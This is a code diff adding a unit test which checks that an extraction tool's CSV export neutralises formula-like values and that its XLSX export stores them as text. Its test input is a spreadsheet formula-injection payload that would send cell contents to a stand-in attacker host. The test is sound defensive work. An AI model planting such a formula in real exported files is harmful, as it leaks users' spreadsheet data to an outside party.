@@ -121,6 +121,18 @@ def test_csv_holds_the_same_cells_as_text(template, documents):
     assert b[-1] == "3"
 
 
+def test_csv_values_that_begin_like_a_formula_are_quoted_so_no_spreadsheet_runs_them(template):
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"ГБУ")'
+    result = run(template, [("customer_name", formula, 0), ("contact_phone", "+7 (495) 241-15-07", 0)])
+    header, row = csv.reader(io.StringIO(sheet_bytes([("a.pdf", result)], template, "csv").decode("utf-8-sig")))
+    assert row[column(header, "Customer")] == "'" + formula
+    assert row[column(header, "Contact phone")] == "'+7 (495) 241-15-07"
+    # The workbook keeps them as they are: its cells are text, never formulas.
+    sheet = load_workbook(io.BytesIO(sheet_bytes([("a.pdf", result)], template, "xlsx"))).active
+    cells = [cell.value for cell in list(sheet.iter_rows())[1]]
+    assert cells[column(header, "Customer")] == formula
+
+
 def test_json_is_keyed_by_field_names(template, documents):
     records = json.loads(sheet_bytes(documents, template, "json", lang="ru"))
     assert [r["document"] for r in records] == ["a.pdf", "b.png"]
